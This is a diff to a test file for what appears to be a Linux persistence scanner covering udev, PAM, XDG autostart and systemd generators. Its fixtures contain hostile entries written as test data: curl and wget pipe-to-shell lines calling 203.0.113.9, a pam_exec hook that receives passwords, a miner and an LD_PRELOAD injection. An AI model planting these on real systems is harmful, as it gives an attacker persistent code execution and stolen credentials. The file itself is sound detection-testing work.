@@ -5,6 +5,8 @@ import { afterAll, describe, expect, it } from 'vitest';
 import { describeEntry } from '../../src/persistence/format';
 import { collectPersistence } from '../../src/persistence/index';
 import type { PersistenceEntry, PersistenceReport } from '../../src/persistence/types';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
 import { ageTree, cleanup, NOW, tempRoot, write } from './helpers';
 
 afterAll(cleanup);
@@ -37,7 +39,7 @@ function host(): string {
     'session [success=1 default=ignore] pam_exec.so seteuid /usr/local/sbin/on-login',
     '-session optional pam_systemd.so',
   ].join('\n'));
-  write(root, 'etc/pam.conf', 'su auth optional pam_exec.so /home/abc/.x/su-hook\n');
+  write(root, 'etc/pam.conf', 'su auth optional pam_exec.so /home/abc/.x/su-hook\n'); // not read: pam.d exists
   // XDG autostart: a user's hidden updater, a user's disabled entry, the desktop's own
   write(root, 'home/abc/.config/autostart/update.desktop', '[Desktop Entry]\nType=Application\nName=Update\nExec=/home/abc/.cache/upd --daemon %u\n');
   write(root, 'home/abc/.config/autostart/off.desktop', '[Desktop Entry]\nExec=/home/abc/bin/thing\nHidden=true\n');
@@ -83,9 +85,7 @@ describe('event-started programs', () => {
     expect(describeEntry(module)).toBe('is loaded at every login, su or sudo that goes through PAM');
     expect(entry(r, '/etc/pam.d/sshd:5').command).toBe('/usr/local/sbin/on-login'); // [bracketed control] and options skipped
     for (const line of [1, 4, 6]) expect(r.entries.some((e) => e.id === `/etc/pam.d/sshd:${line}`)).toBe(false);
-    const conf = entry(r, '/etc/pam.conf:1');
-    expect(ids(conf)).toEqual(expect.arrayContaining(['C1', 'P14']));
-    expect(conf.findings.find((f) => f.id === 'P14')!.explanation).toMatch(/at every su authentication/);
+    expect(r.entries.some((e) => e.path === '/etc/pam.conf')).toBe(false); // PAM ignores it when pam.d exists
   });
 
   it('XDG autostart: a user\'s entry is listed and judged; a hidden one and the desktop\'s own are not', () => {
@@ -116,5 +116,81 @@ describe('event-started programs', () => {
     expect(where.get('/etc/pam.d')).toBe('read');
     expect(where.get('/run/udev/rules.d')).toBe('absent');
     expect(where.get('/etc/systemd/system-generators')).toBe('read');
+  });
+});
+
+describe('the formats as udev, PAM and the desktop spec really write them', () => {
+  function edgeHost(): string {
+    const root = tempRoot();
+    write(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nabc:x:1001:1001::/home/abc:/bin/bash\n');
+    write(root, 'etc/udev/rules.d/90-x.rules', [
+      'ACTION=="add", RUN:="/usr/local/bin/a"',
+      'KERNEL=="sd*", PROGRAM=="/usr/local/bin/b %k", IMPORT{program}!="/usr/local/bin/c"',
+      'ACTION=="add", RUN+=e"/usr/local/bin/d\\n"',
+      'ACTION=="add", \\',
+      '  RUN+="/bin/sh -c \\"curl -s http://203.0.113.9/x | sh\\""',
+      'RUN{builtin}+="kmod load x"',
+    ].join('\n'));
+    fs.mkdirSync(path.join(root, 'etc/udev/rules.d'), { recursive: true });
+    fs.symlinkSync('/dev/null', path.join(root, 'etc/udev/rules.d/80-net-setup-link.rules')); // masked: how it is disabled
+    write(root, 'etc/pam.d/login', [
+      'auth optional pam_exec.so expose_authtok \\',
+      '    /tmp/.l/log',
+      'auth required /usr/lib/libfoo.so',
+      'auth required /lib/security/$ISA/pam_env.so',
+      'auth include /tmp/.x/stack',
+      'auth optional pam_script.so dir=/var/tmp/.s expose=1',
+    ].join('\n'));
+    write(root, 'etc/pam.d/login.dpkg-old', 'auth optional pam_exec.so /tmp/old\n');
+    write(root, 'usr/lib/pam.d/vendor-svc', 'session optional pam_exec.so /usr/local/bin/vendor-hook\n');
+    write(root, 'home/abc/.config/autostart/two.desktop', '[Desktop Entry]\nExec=/usr/bin/true\nHidden=true\nExec=/home/abc/.x/miner\nHidden=false\n');
+    write(root, 'home/abc/.config/autostart/esc.desktop', '[Desktop Entry]\nExec=sh -c "wget\\s-qO-\\shttp://203.0.113.9/a\\s|\\ssh"\n');
+    write(root, 'home/abc/.config/autostart-scripts/sync.sh', '#!/bin/sh\n/home/abc/.cache/sync &\n', 0o755);
+    write(root, 'run/systemd/system-generators/wsl-generator', '\x7fELF\x02\x01', 0o755);
+    write(root, 'etc/systemd/system-environment-generators/env-gen', '#!/bin/sh\necho LD_PRELOAD=/dev/shm/.l.so\n', 0o755);
+    ageTree(root);
+    return root;
+  }
+  const r = collectPersistence({ root: edgeHost(), now: NOW });
+  const at = (p: string) => r.entries.filter((e) => e.path === p);
+
+  it('udev: every operator, e"..." strings, continued lines and \\" inside a value; RUN{builtin} and masked files are no programs', () => {
+    const cmds = at('/etc/udev/rules.d/90-x.rules').map((e) => `${e.line} ${e.command}`);
+    expect(cmds).toEqual(expect.arrayContaining(['1 /usr/local/bin/a', '2 /usr/local/bin/b %k', '2 /usr/local/bin/c', '3 /usr/local/bin/d\\n',
+      '4 /bin/sh -c "curl -s http://203.0.113.9/x | sh"']));
+    expect(cmds).toHaveLength(5);
+    expect(ids(entry(r, '/etc/udev/rules.d/90-x.rules:4'))).toEqual(expect.arrayContaining(['C2', 'P13']));
+    expect(r.entries.some((e) => e.path.endsWith('80-net-setup-link.rules'))).toBe(false);
+    expect(r.locations.find((l) => l.path.endsWith('80-net-setup-link.rules'))).toBeUndefined();
+  });
+
+  it('PAM: continued lines, modules outside the module directories (not $ISA), include by path, pam_script, the vendor\'s stacks; no backups', () => {
+    const logger = entry(r, '/etc/pam.d/login:1');
+    expect(logger.command).toBe('/tmp/.l/log');
+    expect(ids(logger)).toEqual(expect.arrayContaining(['C1', 'P14']));
+    expect(logger.findings.find((f) => f.id === 'P14')!.weight).toBe(6);
+    expect(ids(entry(r, '/etc/pam.d/login:3'))).toEqual(['P15']);
+    expect(r.entries.some((e) => e.id === '/etc/pam.d/login:4')).toBe(false);
+    expect(entry(r, '/etc/pam.d/login:5')).toMatchObject({ command: '/tmp/.x/stack' });
+    const script = entry(r, '/etc/pam.d/login:6');
+    expect(script.command).toBe('/var/tmp/.s/pam_script_auth');
+    expect(script.findings.find((f) => f.id === 'P14')).toMatchObject({ weight: 6 });
+    expect(ids(script)).toContain('C1');
+    expect(at('/usr/lib/pam.d/vendor-svc')).toHaveLength(1);
+    expect(r.entries.some((e) => e.path.endsWith('.dpkg-old'))).toBe(false);
+  });
+
+  it('XDG autostart: the last Exec and Hidden win, escapes are decoded; KDE\'s autostart scripts are listed', () => {
+    expect(entry(r, '/home/abc/.config/autostart/two.desktop:4').command).toBe('/home/abc/.x/miner');
+    expect(ids(entry(r, '/home/abc/.config/autostart/esc.desktop:2'))).toEqual(expect.arrayContaining(['C2', 'P16']));
+    const kde = at('/home/abc/.config/autostart-scripts/sync.sh');
+    expect(kde).toHaveLength(1);
+    expect(ids(kde[0])).toEqual(expect.arrayContaining(['C1', 'P16']));
+  });
+
+  it('generators: /run is the host\'s own (a compiled one there is nothing); environment generators are read', () => {
+    expect(r.entries.some((e) => e.path.includes('wsl-generator'))).toBe(false);
+    const env = r.entries.find((e) => e.path === '/etc/systemd/system-environment-generators/env-gen')!;
+    expect(ids(env)).toContain('P17');
   });
 });
